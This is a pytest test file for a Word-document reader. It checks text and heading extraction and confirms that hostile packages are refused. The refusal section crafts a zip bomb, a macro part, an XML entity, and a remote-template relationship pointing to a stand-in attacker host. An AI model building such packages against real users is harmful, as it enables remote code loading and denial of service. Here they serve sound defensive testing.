"""Reading Word files: paragraphs, headings by style, line breaks, and the packages refused.

Documents are built here with python-docx; the hostile packages are crafted with zipfile, since
Word would never write them.
"""

import io
import zipfile

import docx
import pytest
from docx.enum.text import WD_BREAK
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from review_app.formats.article import read_article
from review_app.formats.docx import MAX_EXPANSION, read_docx
from review_app.formats.errors import FormatError
from review_app.formats.text import read_html

LIMIT = 1024 * 1024


def _saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _article_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("返回首页")
    document.add_paragraph("上海知识产权保护大会", style="Title")
    document.add_heading("会议概况", level=1)
    body = document.add_paragraph("第一段第一行")
    body.add_run().add_break()
    body.add_run("第一段第二行")
    document.add_heading("细节", level=2)
    document.add_paragraph("第二段\t有制表符")
    document.add_paragraph("   ")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = "表格甲"
    table.cell(0, 1).text = "表格乙"
    document.add_paragraph("结尾")
    return _saved(document)


def test_paragraphs_headings_and_title_come_in_document_order() -> None:
    paragraphs, headings, page_title = read_docx(_article_docx(), "article.docx")

    assert paragraphs == [
        "返回首页",
        "上海知识产权保护大会",
        "会议概况",
        "第一段第一行",
        "第一段第二行",
        "细节",
        "第二段\t有制表符",
        "表格甲",
        "表格乙",
        "结尾",
    ]
    assert headings == {1: 0, 2: 1, 5: 2}
    assert page_title == "上海知识产权保护大会"


def test_the_result_has_the_shape_the_html_reader_gives() -> None:
    from_html = read_html("<title>T</title><h1>H</h1><p>a</p>")
    from_docx = read_docx(_article_docx(), "article.docx")
    assert [type(part) for part in from_docx] == [type(part) for part in from_html]


def test_the_title_style_is_the_headline_and_headings_keep_their_levels() -> None:
    article = read_article(_article_docx(), "article.docx", "zh")
    assert article.headline is not None
    assert (article.headline.text, article.headline.paragraph) == ("上海知识产权保护大会", 1)


def test_without_a_title_the_first_heading_1_is_the_headline() -> None:
    document = docx.Document()
    document.add_heading("Headline of the draft", level=1)
    document.add_paragraph("Body.")
    article = read_article(_saved(document), "draft.docx", "en")
    assert article.headline is not None
    assert article.headline.text == "Headline of the draft"


def test_a_style_based_on_a_heading_is_a_heading() -> None:
    document = docx.Document()
    custom = document.styles.add_style("Section heading", 1)  # 1: paragraph style
    custom.base_style = document.styles["Heading 2"]
    document.add_paragraph("Custom", style="Section heading")
    document.add_paragraph("Body.")
    assert read_docx(_saved(document), "custom.docx")[1] == {0: 2}


def test_a_merged_table_cell_is_read_once() -> None:
    document = docx.Document()
    table = document.add_table(rows=2, cols=3)
    merged = table.cell(0, 0).merge(table.cell(0, 2))
    merged.text = "合并"
    for column, text in enumerate(["甲", "乙", "丙"]):
        table.cell(1, column).text = text
    assert read_docx(_saved(document), "table.docx")[0] == ["合并", "甲", "乙", "丙"]


def test_a_heading_with_a_line_break_stays_one_heading() -> None:
    document = docx.Document()
    heading = document.add_heading("First half", level=1)
    heading.add_run().add_break(WD_BREAK.LINE)
    heading.add_run("second half")
    paragraphs, headings, _ = read_docx(_saved(document), "heading.docx")
    assert (paragraphs, headings) == (["First half second half"], {0: 1})


def test_footnote_and_comment_marks_and_deleted_text_are_not_text() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("Kept")
    reference = OxmlElement("w:r")
    mark = OxmlElement("w:footnoteReference")
    mark.set(qn("w:id"), "1")
    reference.append(mark)
    paragraph._p.append(reference)
    deleted = OxmlElement("w:del")
    deleted_run = OxmlElement("w:r")
    deleted_text = OxmlElement("w:delText")
    deleted_text.text = " removed"
    deleted_run.append(deleted_text)
    deleted.append(deleted_run)
    paragraph._p.append(deleted)
    inserted = OxmlElement("w:ins")
    inserted_run = OxmlElement("w:r")
    inserted_text = OxmlElement("w:t")
    inserted_text.text = " text"
    inserted_run.append(inserted_text)
    inserted.append(inserted_run)
    paragraph._p.append(inserted)
    document.add_comment(paragraph.runs, text="A reviewer's comment", author="R")
    assert read_docx(_saved(document), "notes.docx")[0] == ["Kept text"]


# -- refused packages -------------------------------------------------------------------------


def _repacked(data: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None):
    """A copy of the package with parts added or replaced."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for member in source.infolist():
            target.writestr(member, replace.get(member.filename, source.read(member)))
        for name, content in extra.items():
            target.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _simple_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("A paragraph.")
    return _saved(document)


def _bomb(max_bytes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"\0" * (max_bytes * MAX_EXPANSION + 1))
    return out.getvalue()


def _external_relationship() -> bytes:
    data = _simple_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        rels = package.read("word/_rels/document.xml.rels")
    linked = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )
    return _repacked(data, {}, {"word/_rels/document.xml.rels": linked})


def _entity_in_relationships() -> bytes:
    data = _simple_docx()
    rels = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"&a;</Relationships>"
    )
    return _repacked(data, {}, {"_rels/.rels": rels})


@pytest.mark.parametrize(
    ("data", "name", "message"),
    [
        pytest.param(b"plain text, not a zip", "article.docx", "is not one", id="not-zip"),
        pytest.param(_bomb(LIMIT), "bomb.docx", "zip bomb", id="zip-bomb"),
        pytest.param(_simple_docx(), "article.docm", "contains macros", id="docm-name"),
        pytest.param(
            _repacked(_simple_docx(), {"word/vbaProject.bin": b"\0" * 64}),
            "article.docx",
            "contains macros",
            id="vba-project",
        ),
        pytest.param(
            _external_relationship(), "linked.docx", "links to an outside file", id="external"
        ),
        pytest.param(_entity_in_relationships(), "dtd.docx", "is damaged", id="dtd-in-rels"),
        pytest.param(
            _repacked(_simple_docx(), {}, {"word/document.xml": b"<not-closed"}),
            "broken.docx",
            "is damaged or not a Word document",
            id="broken-xml",
        ),
    ],
)
def test_a_hostile_or_broken_package_is_refused_naming_the_file(data, name, message) -> None:
    with pytest.raises(FormatError, match=message) as caught:
        read_docx(data, name, max_bytes=LIMIT)
    assert caught.value.filename == name
    assert str(caught.value).startswith(name)


def test_the_zip_bomb_is_refused_from_its_directory_before_anything_is_inflated(
    monkeypatch,
) -> None:
    def no_reading(*args, **kwargs):
        raise AssertionError("a member was read")

    bomb = _bomb(LIMIT)
    monkeypatch.setattr(zipfile.ZipFile, "read", no_reading)
    monkeypatch.setattr(zipfile.ZipFile, "open", no_reading)
    with pytest.raises(FormatError, match="zip bomb"):
        read_docx(bomb, "bomb.docx", max_bytes=LIMIT)


def test_a_hyperlink_is_the_one_external_relationship_allowed() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("See ")
    r_id = document.part.relate_to(
        "https://example.com/", docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True
    )
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), r_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "the site"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    assert read_docx(_saved(document), "links.docx")[0] == ["See the site"]


def test_an_oversized_file_is_refused_before_it_is_opened() -> None:
    with pytest.raises(FormatError, match="the limit is"):
        read_docx(_simple_docx(), "big.docx", max_bytes=100)
